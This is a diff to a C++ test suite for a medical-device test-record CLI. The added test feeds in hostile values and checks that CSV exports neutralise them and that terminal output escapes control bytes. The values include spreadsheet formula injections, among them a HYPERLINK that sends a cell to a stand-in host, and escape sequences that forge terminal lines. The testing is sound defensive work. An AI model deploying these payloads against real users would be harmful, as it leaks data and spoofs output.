@@ -40,6 +40,7 @@ struct Browsed {
     QImage shot;
     std::string dom;
     std::vector<std::string> requests;
+    int width = 0;  // the laid-out document's width in pixels
 };
 
 Browsed browse(const std::string& page, const std::string& folder) {
@@ -59,6 +60,16 @@ Browsed browse(const std::string& page, const std::string& folder) {
     }
     std::FILE* dom = ::popen((common + "--dump-dom " + url + " 2>/dev/null").c_str(), "r");
     b.dom = dom ? slurpPipe(dom) : std::string();
+    // The width from a copy that measures itself (the page has no script).
+    const std::string measured = folder + "/measured.html";
+    writeFile(measured, readFile(page) +
+                            "<script>document.body.setAttribute('data-width', "
+                            "document.documentElement.scrollWidth)</script>\n");
+    std::FILE* wide =
+        ::popen((common + "--dump-dom 'file://" + measured + "' 2>/dev/null").c_str(), "r");
+    const std::string widthDom = wide ? slurpPipe(wide) : std::string();
+    const std::size_t at = widthDom.find("data-width=\"");
+    if (at != std::string::npos) b.width = std::atoi(widthDom.c_str() + at + 12);
     const QJsonDocument net = QJsonDocument::fromJson(QByteArray::fromStdString(readFile(log)));
     const int startJob = net["constants"]["logEventTypes"]["URL_REQUEST_START_JOB"].toInt(-1);
     for (const QJsonValue& event : net["events"].toArray()) {
@@ -475,6 +486,87 @@ TEST_P(CliArchive, VerdictsAndTheDueList) {
           "Planned maintenance on time", "retired 1", "tester out of calibration"})
         EXPECT_NE(life.find(says), std::string::npos) << says << "\n" << life;
     EXPECT_NE(readFile(path("life.html")).find("<h3 id=\"unknown\">"), std::string::npos);
+
+    // Hostile texts: a tester whose ID is a formula, one whose ID would
+    // retitle the terminal and forge a line, a device ID and asset-list
+    // texts that a spreadsheet would run, control bytes, and a location of
+    // 200 characters without a space.
+    const std::string forged = "\x1b]0;o\x07\x1b[2J\r\nSN: X";
+    ASSERT_EQ(run(download(db, "SN4",
+                           {record("IV-1", "14 Mar 2026", "95"), record("@P", "14 Mar 2026", "95"),
+                            record("\tQ", "14 Mar 2026", "95")},
+                           "=7*6"))
+                  .code,
+              CliDone);
+    ASSERT_EQ(run(download(db, "SN5", {record("IV-9", "15 Mar 2026", "100")}, forged)).code,
+              CliDone);
+    const std::string wide = "+" + std::string(199, 'W');
+    writeFile(path("v4.csv"),
+              "device_id,model,location,set_rate_ml_h,flow_low_pct,flow_high_pct,interval_days,"
+              "asset_tag\r\n,P3,,100,-5,5,365,\r\n"
+              "IV-1,P3,\"=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\",,,,,-T1\r\n"
+              "IV-2,P3," + wide + ",,,,,\r\nIV-3,P3,W,,,,,\r\nIV-4,P3,-W,,,,,\r\n"
+              "IV-5,P3,\"\rW\x1b[2J\",,,,,\r\nIV-9,P3,@W,,,,,\r\n");
+    ASSERT_EQ(run({"--archive", db, "assets", path("v4.csv")}).code, CliDone);
+    writeFile(path("testers2.csv"),
+              std::string("tester_serial,calibrated_on,calibration_due,certificate\r\n"
+                          "SN4,2026-01-01,2026-12-31,=1+1\r\n"));
+    ASSERT_EQ(run({"--archive", db, "testers", path("testers2.csv")}).code, CliDone);
+    // In the CSVs a spreadsheet opens, each formula-like text is kept as
+    // text by a leading apostrophe; numbers (-5.0) and keys are as they are.
+    const std::string results =
+        run({"--archive", db, "history", "--since", "2026-03-14", "--results", "-"}).out;
+    for (const char* says : {"\"'=HYPERLINK(\"\"http://x/?d=\"\"&A2,\"\"Ward 3\"\")\"",
+                             ",\"'=7*6\",", ",\"'-T1\",", "\"'@P\",", "\"'\tQ\",", ",PASS,95,100,-5,-5,5,"})
+        EXPECT_NE(results.find(says), std::string::npos) << says << "\n" << results;
+    const std::string dueAll = run({"--archive", db, "due", "--all", "--csv", "-"}).out;
+    const std::string assetCsv = run({"--archive", db, "assets", "--csv", "-"}).out;
+    for (const std::string& says : {",\"'" + wide + "\",", std::string(",\"'-W\","), std::string(",\"'\rW\x1b[2J\","),
+                                    std::string(",\"'@W\",")}) {
+        EXPECT_NE(dueAll.find(says), std::string::npos) << says << "\n" << dueAll;
+        EXPECT_NE(assetCsv.find(says), std::string::npos) << says << "\n" << assetCsv;
+    }
+    EXPECT_NE(run({"--archive", db, "testers", "--csv", "-"}).out.find(",\"'=1+1\""),
+              std::string::npos);
+    const std::string unknownCsv = run({"--archive", db, "unknown", "--csv", "-"}).out;
+    for (const char* says : {"\"'@P\",1,", "\"'\tQ\",1,"})
+        EXPECT_NE(unknownCsv.find(says), std::string::npos) << says << "\n" << unknownCsv;
+    const std::string downloadsCsv = run({"--archive", db, "downloads", "--csv", "-"}).out;
+    EXPECT_NE(downloadsCsv.find(",\"'=7*6\","), std::string::npos) << downloadsCsv;
+    // The window program's CSV keeps its bytes.
+    const std::string windowCsv =
+        run({"--archive", db, "history", "--device", "@P", "--csv", "-"}).out;
+    EXPECT_NE(windowCsv.find(",@P,14 Mar 2026,"), std::string::npos) << windowCsv;
+    EXPECT_EQ(windowCsv.find("'@P"), std::string::npos) << windowCsv;
+    // Control bytes are shown escaped in every text for a terminal and in
+    // error lines: info and downloads keep a line each, due and assets show
+    // the location's bytes, and a file name's bytes reach no terminal.
+    const std::string shown = "\\x1B]0;o\\x07\\x1B[2J\\x0D\\x0ASN: X";
+    ran = run({"--virtual", "--identity", path("SN5.id"), "info"});
+    EXPECT_EQ(ran.out, "ID: " + shown + "\nSN: SN5\n");
+    const std::string downloadsText = run({"--archive", db, "downloads", "--text", "-"}).out;
+    EXPECT_NE(downloadsText.find(shown), std::string::npos) << downloadsText;
+    EXPECT_EQ(std::count(downloadsText.begin(), downloadsText.end(), '\n'), 6) << downloadsText;
+    for (const Ran& text : {run({"--archive", db, "due"}), run({"--archive", db, "assets"}),
+                            run({"--archive", db, "import", path("\x1b[2J.csv")})}) {
+        EXPECT_EQ(text.out.find_first_of("\x1b\r"), std::string::npos) << text.out;
+        EXPECT_EQ(text.err.find_first_of("\x1b\r"), std::string::npos) << text.err;
+        EXPECT_NE((text.out + text.err).find("\\x1B[2J"), std::string::npos) << text.out << text.err;
+    }
+    // The report: the long location wraps in its column of the PDF, the
+    // failed pump's device ID and date whole beside it, and the web page
+    // fits the browser's window.
+    ran = run({"--archive", db, "report", "--as-of", "2026-06-01", "--pdf", path("wide.pdf"),
+               "--html", path("wide.html")});
+    ASSERT_EQ(ran.code, CliDone) << ran.err;
+    const std::string widePdf = pdfText(path("wide.pdf"));
+    EXPECT_NE(words(widePdf).find("IV-2 P3 +WWW"), std::string::npos) << widePdf;
+    EXPECT_GE(std::count(widePdf.begin(), widePdf.end(), 'W'), 199 * 3) << widePdf;
+    EXPECT_NE(widePdf.find("\\x0DW\\x1B[2J"), std::string::npos) << widePdf;
+    const Browsed wideBrowsed = browse(path("wide.html"), path("browser-wide"));
+    ASSERT_EQ(wideBrowsed.problem, "");
+    EXPECT_GT(wideBrowsed.width, 0);
+    EXPECT_LE(wideBrowsed.width, 1280);
 }
 
 // The real program started with its standard output a pipe of one page
